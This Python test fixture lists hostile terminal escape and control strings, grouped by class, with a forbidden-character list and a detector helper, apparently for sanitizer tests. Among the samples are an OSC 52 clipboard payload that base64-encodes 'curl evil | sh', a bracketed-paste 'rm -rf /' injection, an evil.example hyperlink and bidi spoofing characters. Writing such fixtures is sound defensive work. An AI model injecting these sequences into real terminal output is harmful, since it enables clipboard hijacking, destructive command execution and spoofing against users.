"""Hostile strings by class: what an attacker (or a broken program) can put in a log line,
an alert annotation, a pod name, a note or an LLM answer."""

from __future__ import annotations

HOSTILE: dict[str, list[str]] = {
    "CSI clear-screen / cursor": ["\x1b[2J\x1b[H", "ok\x1b[1;1Hfake prompt", "\x1b[31mred\x1b[0m",
                                  "\x1b[?1049h alt screen", "\x1b[6n report cursor"],
    "OSC title": ["\x1b]0;pwned\x07", "\x1b]2;title\x1b\\"],
    "OSC 8 hyperlink": ["\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"],
    "OSC 52 clipboard": ["\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"],
    "DCS": ["\x1bP+q544e\x1b\\", "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\"],
    "bracketed paste": ["\x1b[200~rm -rf /\x1b[201~"],
    "lone ESC": ["trailing \x1b", "\x1b", "a\x1bb"],
    "C1 controls": ["\x9b2J", "\x9d0;t\x9c", "\x85next line", "\x90dcs\x9c"],
    "bidi overrides": ["\u202eexe.gnp", "a\u2066b\u2069c", "\u200f\u202d"],
    "BEL / BS / CR": ["\x07\x07", "abc\x08\x08\x08xyz", "safe\rEVIL"],
    "NUL bytes": ["nul\x00byte", "\x00"],
}

#: characters that must never reach a terminal or a Markdown file raw
RAW_FORBIDDEN = ["\x1b", "\x9b", "\x9d", "\x90", "\x9c", "\x85", "\x07", "\x08", "\x00",
                 "\u202e", "\u2066", "\u2069", "\u200f", "\u202d", "\r"]


def all_samples() -> list[tuple[str, str]]:
    return [(klass, text) for klass, texts in HOSTILE.items() for text in texts]


def raw_controls(text: str) -> list[str]:
    return [repr(c) for c in RAW_FORBIDDEN if c in text]
